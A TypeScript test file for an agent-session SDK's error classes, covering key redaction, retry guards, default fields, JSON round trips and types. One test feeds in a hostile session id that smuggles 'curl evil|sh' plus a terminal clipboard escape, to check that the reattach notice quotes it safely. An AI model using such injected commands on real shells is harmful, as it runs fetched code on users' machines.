/**
 * The SDK's errors, tested once for both editions: no key in the errors that validation, missing
 * credentials and time-outs make, the guards, the errors as Effect errors, the orphan notice, the
 * JSON round trip (U19), the defaults of the constructors and the types each class gives. Each
 * edition's `Errors.test.ts` holds the cases whose text differs between the lines (the log and span
 * captures of U18, the encoded forms of `Duration`).
 */
import { assert, describe, it } from "@effect/vitest"
import * as Cause from "effect/Cause"
import * as Duration from "effect/Duration"
import * as Effect from "effect/Effect"
import * as Equal from "effect/Equal"
import * as Fiber from "effect/Fiber"
import * as Option from "effect/Option"
import * as Schedule from "effect/Schedule"
import * as Schema from "effect/Schema"
import { expectTypeOf } from "vitest"
import * as Errors from "../../src/Errors.js"
import { assertErrorClean, notRetryable, retryable } from "./errors.js"
import { agentBody, json, makeApi, type Reply, text, validAgent, validSession } from "./StubHttpClient.js"
import {
  decodeOutcome,
  failureIn,
  forkChild,
  propRuns,
  type SchemaOf,
  successOf,
  TestClock,
  typeSchema
} from "../helpers/line.js"

describe("Errors", () => {
  describe("no API key in any error, log line or span", () => {
    it.effect("validation, credential and time-out errors are clean too", () =>
      Effect.gen(function*() {
        const { api } = yield* makeApi(() => Effect.never, { retry: Schedule.recurs(0) })
        assertErrorClean(yield* Effect.flip(api.createSession({ ...validSession, max_actions: 0 })))
        const timeout = yield* forkChild(Effect.flip(api.createSession(validSession)))
        yield* TestClock.adjust("31 seconds")
        assertErrorClean(yield* Fiber.join(timeout))
        const missing = yield* makeApi(() => json(200, agentBody()), { credentials: {} })
        assertErrorClean(yield* Effect.flip(missing.api.onboard(validAgent)))
        assertErrorClean(
          yield* Effect.flip(api.createSession(validSession, { agent: { agentId: "a", apiKey: Option.none() } }))
        )
      }))

    it("redactSecrets and truncateRaw (the protocol core's, re-exported)", () => {
      assert.strictEqual(Errors.redactSecrets("a KEY b KEY", ["KEY"]), "a <redacted> b <redacted>")
      assert.strictEqual(Errors.redactSecrets("nothing", ["", "x"]), "nothing")
      assert.strictEqual(Errors.truncateRaw("y".repeat(5000)).length, 4096)
      assert.strictEqual(Errors.truncateRaw("short"), "short")
    })

    it.effect("every failure of AgentApi is an AgentSessionError (no platform error leaks)", () =>
      Effect.gen(function*() {
        const replies: ReadonlyArray<Reply> = [
          () => json(500, {}),
          () => "refuse",
          () => text(200, "not json"),
          () => json(200, { wrong: true }),
          () => json(301, {}),
          () => new Response(null, { status: 204 })
        ]
        for (const reply of replies) {
          const { api } = yield* makeApi(reply, { retry: Schedule.recurs(0) })
          const error = yield* Effect.flip(api.onboard(validAgent))
          assert.isTrue(Errors.isAgentSessionError(error), String(error))
        }
      }))
  })

  describe("guards", () => {
    it("U07 isRetryable: transport, time-out, 408, 429, 5xx only", () => {
      for (const error of retryable) assert.isTrue(Errors.isRetryable(error), `${error._tag} ${String(error)}`)
      for (const error of notRetryable) assert.isFalse(Errors.isRetryable(error), `${error._tag} ${String(error)}`)
    })

    it("isAgentSessionError: every error of the SDK, nothing else", () => {
      for (const error of [...retryable, ...notRetryable]) assert.isTrue(Errors.isAgentSessionError(error))
      for (const value of [new Error("x"), { _tag: "Unauthorized" }, null, undefined, "Unauthorized", 1]) {
        assert.isFalse(Errors.isAgentSessionError(value))
      }
    })
  })

  describe("as Effect errors", () => {
    it.effect("each is yieldable in Effect.gen and caught by its tag", () =>
      Effect.gen(function*() {
        const caught = yield* Effect.gen(function*() {
          return yield* new Errors.MissingAgentKey({ agentId: "a-1" })
        }).pipe(Effect.catchTag("MissingAgentKey", (error) => Effect.succeed(error.agentId)))
        assert.strictEqual(caught, "a-1")
      }))

    it("the messages of the errors without a message field are computed from their fields", () => {
      assert.strictEqual(
        new Errors.ConnectTimeout({ timeout: Duration.seconds(10) }).message,
        "The event channel did not open within 10s"
      )
      assert.include(new Errors.MissingCredentials({ operation: "onboard", variable: "V" }).message, "set V")
      assert.include(
        new Errors.OutcomeUnknown({
          operation: "AgentApi.createSession",
          idempotencyKey: "k-1",
          attempts: 2,
          reason: "RequestTimeout",
          detail: "no response"
        }).message,
        "Idempotency-Key k-1"
      )
      assert.include(
        new Errors.SessionEndedWithoutComplete({ sessionId: "s", lastError: Option.some("boom") }).message,
        "without complete: boom"
      )
      assert.include(Cause.pretty(Cause.fail(new Errors.FrameTooLarge({ size: 9, limit: 4 }))), "over the limit of 4")
    })
  })
})

describe("Errors.orphanNotice", () => {
  it("names the session only when it may still be running", () => {
    const running = new Errors.ConnectionLost({ sessionId: "s-9", mayStillBeRunning: true, attempts: 3, lastError: "x" })
    assert.include(Errors.orphanNotice(running) ?? "", "attach s-9")
    assert.isUndefined(Errors.orphanNotice(new Errors.ConnectionLost({ attempts: 3, lastError: "x" })))
    assert.isUndefined(Errors.orphanNotice(new Error("x")))
  })

  it("quotes a hostile session id for the shell and shows no control character", () => {
    const notice = (sessionId: string) =>
      Errors.orphanNotice(new Errors.ConnectionLost({ sessionId, mayStillBeRunning: true, attempts: 1, lastError: "x" }))
    assert.strictEqual(
      notice("ses_1"),
      "session ses_1 may still be running at the service; reattach with: effect-agent-session attach ses_1"
    )
    const hostile = notice("ses_1;curl evil|sh\u001b]52;c;x\u0007")
    assert.isDefined(hostile)
    assert.include(hostile ?? "", "attach 'ses_1;curl evil|sh\\u{1b}]52;c;x\\u{7}'")
    assert.notMatch(hostile ?? "", /[\u0000-\u001f\u007f-\u009f]/)
    assert.include(notice("it's") ?? "", "attach 'it'\\''s'")
  })
})

describe("Errors encode to JSON and back", () => {
  const encode = Schema.encodeSync(Errors.AgentSessionError)
  const decode = Schema.decodeUnknownSync(Errors.AgentSessionError)
  const roundTrip = (error: Errors.AgentSessionError) => decode(JSON.parse(JSON.stringify(encode(error))))

  it.prop(
    "U19 every error of the union survives JSON.stringify of its encoded form and decodes back",
    [typeSchema(Errors.AgentSessionError)],
    ([error]) => {
      const encoded = encode(error)
      const back = decode(JSON.parse(JSON.stringify(encoded)))
      assert.strictEqual(back._tag, error._tag)
      assert.isTrue(Errors.isAgentSessionError(back))
      assert.strictEqual(JSON.stringify(encode(back)), JSON.stringify(encoded))
    },
    propRuns(1000, 12)
  )

  // Each class on its own, so that every class is generated (optional fields absent, present or
  // given as `undefined`; every kind of `Duration`). The members of a union are schemas of its
  // type (the compiler cannot see it through a union of classes, hence the cast).
  for (const member of Errors.AgentSessionError.members) {
    it.prop(
      `U19 ${member.identifier}: JSON of its encoded form decodes to an error Equal.equals the original`,
      [typeSchema(member as unknown as SchemaOf<Errors.AgentSessionError>)],
      ([error]) => {
        const back = roundTrip(error)
        assert.isTrue(Equal.equals(back, error), `${JSON.stringify(encode(error))} came back different`)
        assert.isTrue(Errors.isAgentSessionError(back))
        assert.strictEqual(back.message, error.message)
        assert.strictEqual(JSON.stringify(encode(back)), JSON.stringify(encode(error)))
      },
      propRuns(100, 21)
    )
  }

  it("an optional field given as undefined is the same as one not given, and survives JSON", () => {
    const given = new Errors.MalformedFrame({ raw: "x", message: "m", sessionId: undefined, mayStillBeRunning: undefined })
    const absent = new Errors.MalformedFrame({ raw: "x", message: "m" })
    assert.isTrue(Equal.equals(given, absent))
    assert.isTrue(Equal.equals(roundTrip(given), given))
    assert.isTrue(Equal.equals(roundTrip(absent), absent))
    const inSession = new Errors.MalformedFrame({ raw: "x", message: "m", sessionId: "s", mayStillBeRunning: true })
    assert.isFalse(Equal.equals(inSession, absent))
    assert.isTrue(Equal.equals(roundTrip(inSession), inSession))
  })
})

describe("Errors are built from the fields that matter", () => {
  it("the HTTP status errors default their status, message, body and request id", () => {
    const error = new Errors.Unauthorized({ operation: "AgentApi.createSession" })
    assert.strictEqual(error.status, 401)
    assert.strictEqual(error.body, "")
    assert.isTrue(Option.isNone(error.requestId))
    assert.strictEqual(error.message, "the key is missing or invalid")
    const statuses: ReadonlyArray<readonly [number, number]> = [
      [new Errors.BadRequest({ operation: "x" }).status, 400],
      [new Errors.Forbidden({ operation: "x" }).status, 403],
      [new Errors.NotFound({ operation: "x" }).status, 404],
      [new Errors.Conflict({ operation: "x" }).status, 409],
      [new Errors.PayloadTooLarge({ operation: "x" }).status, 413],
      [new Errors.RateLimited({ operation: "x" }).status, 429],
      [new Errors.ServerError({ operation: "x" }).status, 500],
      [new Errors.UnexpectedStatus({ operation: "x", status: 418 }).status, 418]
    ]
    for (const [actual, expected] of statuses) assert.strictEqual(actual, expected)
    assert.isTrue(Option.isNone(new Errors.RateLimited({ operation: "x" }).retryAfter))
    // What is given wins.
    const given = new Errors.ServerError({ operation: "x", status: 503, message: "down", body: "{}", requestId: Option.some("r") })
    assert.deepStrictEqual([given.status, given.message, given.body, Option.getOrNull(given.requestId)], [503, "down", "{}", "r"])
  })

  it("the other errors default their incidental fields", () => {
    assert.strictEqual(new Errors.MissingCredentials({ operation: "createSession" }).variable, "AGENT_SESSION_API_KEY")
    assert.isTrue(Duration.equals(new Errors.RequestTimeout({ operation: "x" }).timeout, Duration.seconds(30)))
    assert.isTrue(Duration.equals(new Errors.ConnectTimeout().timeout, Duration.seconds(10)))
    assert.deepStrictEqual(
      [new Errors.ResponseDecodeError({ operation: "x", message: "m" }).status, new Errors.ResponseTooLarge({ operation: "x", size: 5, limit: 4 }).status],
      [200, 200]
    )
    const unknown = new Errors.OutcomeUnknown({ operation: "x", idempotencyKey: "k", reason: "RequestTimeout" })
    assert.deepStrictEqual([unknown.attempts, unknown.detail], [1, ""])
    assert.strictEqual(new Errors.MalformedFrame({ message: "not JSON" }).raw, "")
    assert.strictEqual(new Errors.HandshakeRejected({ code: 4401 }).reason, "")
    assert.strictEqual(new Errors.AnswerBufferFull().limit, 64)
    assert.isTrue(Option.isNone(new Errors.SessionEndedWithoutComplete({ sessionId: "s" }).lastError))
  })

  it("decoding still requires every field: the SDK's own errors are not loosened", () => {
    const decodeError = decodeOutcome(Errors.AgentSessionError)
    assert.isDefined(failureIn(decodeError({ _tag: "Unauthorized", operation: "x" })))
    assert.isDefined(failureIn(decodeError({ _tag: "ConnectTimeout" })))
    assert.isDefined(successOf(decodeError({ _tag: "Unauthorized", operation: "x", status: 401, message: "m", body: "" })))
  })
})

describe("Errors: the types each class gives (built from the core's table)", () => {
  it("fields, constructor inputs, a derived message read-only, the mark", () => {
    const forbidden = new Errors.Forbidden({ operation: "AgentApi.onboard" })
    expectTypeOf(forbidden._tag).toEqualTypeOf<"Forbidden">()
    expectTypeOf(forbidden.status).toEqualTypeOf<number>()
    expectTypeOf(forbidden.requestId).toEqualTypeOf<Option.Option<string>>()
    expectTypeOf(forbidden[Errors.TypeId]).toEqualTypeOf<Errors.TypeId>()
    const timeout = new Errors.RequestTimeout({ operation: "AgentApi.getSession" })
    expectTypeOf(timeout.timeout).toEqualTypeOf<Duration.Duration>()
    const rateLimited = new Errors.RateLimited({ operation: "AgentApi.onboard" })
    expectTypeOf(rateLimited.retryAfter).toEqualTypeOf<Option.Option<Duration.Duration>>()
    const lost = new Errors.ConnectionLost({ attempts: 3, lastError: "reset" })
    expectTypeOf(lost.sessionId).toEqualTypeOf<string | undefined>()
    expectTypeOf(lost.mayStillBeRunning).toEqualTypeOf<boolean | undefined>()
    const notPending = new Errors.RequestNotPending({ resourceType: "r", actionSessionId: "a", reason: "channel-closed" })
    expectTypeOf(notPending.reason).toEqualTypeOf<"never-received" | "already-answered" | "channel-closed">()
    const ended = new Errors.SessionEndedWithoutComplete({ sessionId: "s" })
    expectTypeOf(ended.lastError).toEqualTypeOf<Option.Option<string>>()
    // @ts-expect-error the operation has no default
    assert.throws(() => new Errors.Forbidden({}))
    // @ts-expect-error not a reason
    assert.throws(() => new Errors.RequestNotPending({ resourceType: "r", actionSessionId: "a", reason: "gone" }))
    // @ts-expect-error a message derived from the fields is read-only
    assert.throws(() => (timeout.message = "x"))
    assert.strictEqual(forbidden.status, 403)
    assert.isTrue(Option.isNone(ended.lastError))
    assert.strictEqual(timeout.message, "AgentApi.getSession got no response within 30s")
  })
})
